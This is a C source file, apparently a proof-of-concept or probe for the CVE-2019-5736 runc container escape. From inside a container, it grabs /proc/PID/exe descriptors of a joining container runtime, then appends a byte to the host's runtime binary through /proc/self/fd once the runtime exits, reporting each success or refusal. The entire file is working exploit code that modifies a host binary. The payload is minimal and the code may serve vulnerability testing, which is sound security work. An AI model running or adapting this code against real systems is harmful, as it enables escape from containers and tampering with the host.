/* Runs inside a container: the CVE-2019-5736 attack on `exec`. For SECONDS it opens /proc/PID/exe of every
 * other process whose executable is not its own and not /bin/busybox (a runtime joining the container),
 * keeps each fd, then tries to append one byte to each through /proc/self/fd (the runtime has exited by
 * then, so the kernel no longer refuses with ETXTBSY). Prints "opened PATH" per grab and "wrote PATH" or
 * "refused PATH: ERROR" per write, then "done".
 *
 *   exe_grab SECONDS */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_GRABS 16

int main(int argc, char **argv)
{
    char self[4096] = "", links[MAX_GRABS][4096];
    int fds[MAX_GRABS], n = 0;
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
    pid_t me = getpid();

    if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
        return 1;
    while (time(NULL) < end && n < MAX_GRABS) {
        DIR *proc = opendir("/proc");
        struct dirent *de;

        if (!proc)
            return 1;
        while ((de = readdir(proc)) && n < MAX_GRABS) {
            char path[64], link[4096] = "";
            int pid = atoi(de->d_name), fd;

            if (pid <= 0 || pid == me)
                continue;
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
            if (readlink(path, link, sizeof(link) - 1) < 0 || !strcmp(link, self) || !strcmp(link, "/bin/busybox")) {
                close(fd);
                continue;
            }
            fds[n] = fd;
            strcpy(links[n], link);
            printf("opened %s\n", link);
            fflush(stdout);
            n++;
        }
        closedir(proc);
    }
    sleep(1);
    for (int i = 0; i < n; i++) {
        char path[64];
        int w;

        snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
        w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0 && write(w, "", 1) == 1)
            printf("wrote %s\n", links[i]);
        else
            printf("refused %s: %s\n", links[i], strerror(errno));
        if (w >= 0)
            close(w);
    }
    printf("done\n");
    return 0;
}
